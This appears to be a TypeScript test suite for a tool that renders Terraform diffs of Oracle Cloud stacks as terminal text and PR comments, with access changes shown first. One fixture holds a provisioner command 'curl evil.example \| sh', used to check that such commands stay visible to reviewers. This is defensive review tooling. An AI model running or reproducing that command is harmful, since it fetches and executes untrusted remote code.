import { countsOf, diffMarkdown, diffStacks, diffText } from '../../../review';
import type { BlockDiff, Documents, StackDiff } from '../../../review';
import type { TerraformDocument } from '../../../terraform';
import { diffedStacks } from '../../../testing/diffed-stacks';
import { blockOf, documentOf } from '../../../testing/small-documents';

const single = (document: TerraformDocument): Documents => ({
  single: true,
  stacks: [{ name: 'oracleapi', document }],
});
const textOf = (...blocks: readonly (BlockDiff | undefined)[]): string =>
  diffText([{ name: 'one', blocks: blocks.filter((block) => block !== undefined) }], { color: false });
const linesOf = (block: BlockDiff | undefined): string[] => textOf(block).trimEnd().split('\n').slice(3);

describe('the text', () => {
  test('tells what one more API and a route for everybody come to', () => {
    const { before, after } = diffedStacks();
    const text = diffText(diffStacks(single(before), single(after)), { color: false });
    expect(text).toBe(EXPECTED);
  });

  test('says so when nothing differs', () => {
    expect(textOf()).toBe('one: no difference\n');
  });

  test('lists statements of a policy that is gone', () => {
    const blocks = diffStacks(
      single(documentOf({ 'oci_identity_policy.One': { statements: ['Allow a', 'Allow b'] } })),
      single({}),
    );
    expect(diffText(blocks, { color: false })).toBe(
      [
        'oracleapi: 1 removed',
        '',
        'Access',
        '  - oci_identity_policy.One',
        '    - statements',
        '      - "Allow a"',
        '      - "Allow b"',
        '',
      ].join('\n'),
    );
  });

  test('leaves out the attributes of what is gone when they are not about access', () => {
    const blocks = diffStacks(single(documentOf({ 'oci_core_vcn.One': { display_name: 'net' } })), single({}));
    expect(diffText(blocks, { color: false })).toBe('oracleapi: 1 removed\n\nChanges\n  - oci_core_vcn.One\n');
  });

  test('says of a secret only that it is another one', () => {
    const block = blockOf('oci_some_type', { password: 'a' }, { password: 'b' });
    expect(linesOf(block)).toEqual(['  ~ oci_some_type.One', '    ~ password: "(secret)" -> another one']);
  });

  test('cuts long values around what differs', () => {
    const same = 'x'.repeat(500);
    const [, line = ''] = linesOf(blockOf('oci_some_type', { a: `${same}old` }, { a: `${same}new` }));
    expect(line).toBe(`    ~ a: …${'x'.repeat(30)}old" -> …${'x'.repeat(30)}new"`);
  });

  test('does not cut a policy statement', () => {
    const statement = `Allow group x to read buckets in tenancy where ${'y'.repeat(1000)}`;
    const block = blockOf('oci_identity_policy', { statements: [] }, { statements: [statement] });
    expect(linesOf(block)[1]).toBe(`    + statements: "${statement}"`);
  });

  test('has a line for a rename, with its warning', () => {
    const blocks = diffStacks(
      single(documentOf({ 'oci_core_vcn.Old': { a: 1 } })),
      single(documentOf({ 'oci_core_vcn.New': { a: 1 } })),
    );
    expect(diffText(blocks, { color: false })).toBe(
      [
        'oracleapi: 1 made anew',
        '',
        'Changes',
        '  > oci_core_vcn.New  was oci_core_vcn.Old',
        '    ! has the same content under another address: it is destroyed and made anew. moveTo and addMoveTarget keep it',
        '',
      ].join('\n'),
    );
  });

  test('warns of a renamed policy among what is about access', () => {
    const blocks = diffStacks(
      single(documentOf({ 'oci_identity_policy.Old': { a: 1 } })),
      single(documentOf({ 'oci_identity_policy.New': { a: 1 } })),
    );
    expect(diffText(blocks, { color: false })).toContain(
      'Access\n  > oci_identity_policy.New  was oci_identity_policy.Old\n    ! has',
    );
  });

  test('shows no character that a terminal or an eye would follow', () => {
    const block = blockOf('oci_some_type', { a: 'x' }, { a: '\u001b[2K\u202e\u0085' });
    expect(linesOf(block)[1]).toBe('    ~ a: "x" -> "\\u001b[2K\\u{202e}\\u{85}"');
  });

  test('is coloured when asked to', () => {
    const text = diffText([{ name: 'one', blocks: [] }], { color: true });
    expect(text).toBe('\u001b[1mone\u001b[22m: no difference\n');
  });
});

describe('the comment', () => {
  const many = (count: number, type: string): StackDiff => {
    const resources = Object.fromEntries(
      Array.from({ length: count }, (_, i) => [`${type}.N${String(i)}`, { description: '€'.repeat(90) }]),
    );
    const [stack] = diffStacks(single({}), single(documentOf(resources)));
    return stack as StackDiff;
  };

  test('shows access in the open and the rest behind a fold', () => {
    const stacks = diffStacks(
      single({}),
      single(documentOf({ 'oci_identity_policy.P': { name: 'p' }, 'oci_core_vcn.V': { display_name: 'v' } })),
    );
    expect(diffMarkdown(stacks)).toBe(
      [
        '<!-- signed-api diff -->',
        '',
        '### `oracleapi`: 2 added',
        '',
        '**Access**',
        '',
        '```diff',
        '+ oci_identity_policy.P',
        '+   name: "p"',
        '```',
        '',
        '<details><summary>The rest</summary>',
        '',
        '```diff',
        '+ oci_core_vcn.V',
        '+   display_name: "v"',
        '```',
        '',
        '</details>',
        '',
      ].join('\n'),
    );
  });

  test('is no longer than a comment may be, in bytes, and says how much is missing', () => {
    const markdown = diffMarkdown([many(2000, 'oci_core_vcn')]);
    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
    expect(Buffer.byteLength(markdown)).toBeGreaterThan(60_000);
    expect(markdown).toMatch(/\n\d+ more lines do not fit in a comment: run `signed-api diff`\.\n/);
  });

  test('drops the rest before anything about access, also of a later stack', () => {
    const policies = { ...many(20, 'oci_identity_policy'), name: 'two' };
    const markdown = diffMarkdown([many(2000, 'oci_core_vcn'), policies]);
    expect(markdown.match(/oci_identity_policy/g)).toHaveLength(20);
    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
  });

  test('is no longer than a comment may be, also with fences that a value makes long', () => {
    const ticks = (count: number): StackDiff[] => {
      const statements = Array.from(
        { length: 60 },
        (_, i) => `${'`'.repeat(count)} ${'x'.repeat(1500 - count)} ${String(i)}`,
      );
      return [...diffStacks(single({}), single(documentOf({ 'oci_identity_policy.P': { statements } })))];
    };
    for (const markdown of [0, 500, 1400].map((count) => diffMarkdown(ticks(count)))) {
      expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
      expect(Buffer.byteLength(markdown)).toBeGreaterThan(60_000);
      expect(markdown).toMatch(/\n\d+ more lines do not fit in a comment: run `signed-api diff`\.\n/);
    }
  });

  test('keeps what is noticed before all else about access', () => {
    const policies = Object.fromEntries(
      Array.from({ length: 900 }, (_, i) => [`oci_identity_policy.P${String(i)}`, { description: '€'.repeat(90) }]),
    );
    const document = documentOf({
      ...policies,
      'oci_objectstorage_bucket.Open': { access_type: 'ObjectRead' },
      'terraform_data.Run': { provisioner: { 'local-exec': { command: 'curl evil.example | sh' } } },
    });
    const markdown = diffMarkdown(diffStacks(single({}), single(document)));
    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
    expect(markdown).toMatch(/\n\d+ more lines do not fit in a comment/);
    const [open = ''] = markdown.split('<details>');
    expect(open).toContain('NOTE: anyone may list and read its objects');
    expect(open).toContain('"curl evil.example | sh"');
  });

  test('says of what is gone once what it allowed', () => {
    const bucket = documentOf({ 'oci_objectstorage_bucket.B': { access_type: 'ObjectRead', name: 'x' } });
    expect(diffMarkdown(diffStacks(single(bucket), single({}))).match(/oci_objectstorage_bucket/g)).toHaveLength(1);
    expect(diffMarkdown(diffStacks(single({}), single(bucket))).match(/oci_objectstorage_bucket/g)).toHaveLength(2);
  });

  test('has a fence that no value ends', () => {
    const block = blockOf('oci_some_type', { a: 'x' }, { a: '````\n</details>' });
    const markdown = diffMarkdown([{ name: 'one', blocks: block === undefined ? [] : [block] }]);
    expect(markdown).toContain('\n`````diff\n');
  });
});

describe('the counts', () => {
  test('are by kind', () => {
    expect(countsOf(diffStacks(single({}), single(documentOf({ 'a.b': {}, 'a.c': {} })))[0]?.blocks ?? [])).toEqual({
      added: 2,
      removed: 0,
      changed: 0,
      moved: 0,
      renamed: 0,
    });
  });
});

const EXPECTED = `oracleapi: 7 added, 2 changed

Access
  ~ oci_apigateway_deployment.Gateway_Deployment_6C107242  (Gateway/Deployment/Deployment)
    ! anyone may call GET /health: no token is checked
    ~ specification.request_policies.authentication.is_anonymous_access_allowed: false -> true
    + specification.routes[POST /buckets]
      + methods: ["POST"]
      + path: "/buckets"
      + backend.function_id: "\${oci_functions_function.QueryApi_Function_95B52E7B.id}"
      + backend.type: "ORACLE_FUNCTIONS_BACKEND"
      + request_policies.authorization.allowed_scope: ["invoke"]
      + request_policies.authorization.type: "ANY_OF"
    + specification.routes[GET /health]
      + methods: ["GET"]
      + path: "/health"
      + backend.function_id: "\${oci_functions_function.SearchApi_Function_B9756F88.id}"
      + backend.type: "ORACLE_FUNCTIONS_BACKEND"
      + request_policies.authorization.type: "ANONYMOUS"
  + terraform_data.QueryApi_Image_Push_Data_825F9CE2  (QueryApi/Image/Push/Data)
    ! a deploy runs its local-exec
    + provisioner
      + [0].local-exec.command: "node assets/ImagePusher/program/push.js assets/QueryApi_Image_Bundle_D3D0551E/c233fb53f93c80be"
      + [0].local-exec.environment.IMAGE_REFERENCE: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/\${oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965.display_name}"
  + oci_identity_policy.QueryApi_Function_Policy_A4DCEC38  (QueryApi/Function/Policy)
    + compartment_id: "\${var.compartment_ocid}"
    + description: "What the function needs to serve query"
    + name: "oracleapi-query"
    + statements: "Allow dynamic-group \${oci_identity_dynamic_group.QueryApi_Function_DynamicGroup_D187838B.name} to read buckets in compartment id \${var.compartment_ocid}"
  + oci_identity_dynamic_group.QueryApi_Function_DynamicGroup_D187838B  (QueryApi/Function/DynamicGroup)
    + compartment_id: "\${var.tenancy_ocid}"
    + description: "The function that signs calls of query"
    + matching_rule: "ALL {resource.type = 'fnfunc', resource.id = '\${oci_functions_function.QueryApi_Function_95B52E7B.id}'}"
    + name: "oracleapi-query"
  + oci_functions_function.QueryApi_Function_95B52E7B  (QueryApi/Function/Function)
    + image: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/\${oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965.display_name}:c233fb53f93c80be"

The rest
  + terraform_data.QueryApi_Image_Push_Data_825F9CE2  (QueryApi/Image/Push/Data)
    + triggers_replace
      + tag: "c233fb53f93c80be"
      + repository: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/… (206 characters)
      + repository_id: "\${oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965.id}"
  + oci_functions_function.QueryApi_Function_95B52E7B  (QueryApi/Function/Function)
    + application_id: "\${oci_functions_application.Application_C292608F.id}"
    + config: {}
    + depends_on: ["terraform_data.QueryApi_Image_Push_Data_825F9CE2"]
    + detached_mode_timeout_in_seconds: 30
    + display_name: "query"
    + failure_destination.kind: "NONE"
    + memory_in_mbs: "256"
    + provisioned_concurrency_config.strategy: "NONE"
    + success_destination.kind: "NONE"
    + timeout_in_seconds: 30
    + trace_config.is_enabled: false
  + data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412  (QueryApi/Image/Namespace)
    + compartment_id: "\${var.tenancy_ocid}"
  + oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965  (QueryApi/Image/Repository)
    + compartment_id: "\${var.compartment_ocid}"
    + display_name: "oracleapi/query"
    + is_immutable: true
    + is_public: false
  ~ output.apis
    + value.query
      + method: "POST"
      + url: "\${oci_apigateway_deployment.Gateway_Deployment_6C107242.endpoint}/buckets"
      + example: "{\\"name\\":\\"one\\"}"
      + reads_only: true
      + function_id: "\${oci_functions_function.QueryApi_Function_95B52E7B.id}"
      + invoke_endpoint: "\${oci_functions_function.QueryApi_Function_95B52E7B.invoke_endpoint}"
  + output.curl_query
    + description: "Calls query; set TOKEN first"
    + value: "curl --request POST --header \\"Authorization: Bearer $TOKEN\\" --header 'Content-Type: application/json' --data '{\\"name… (209 characters)
`;
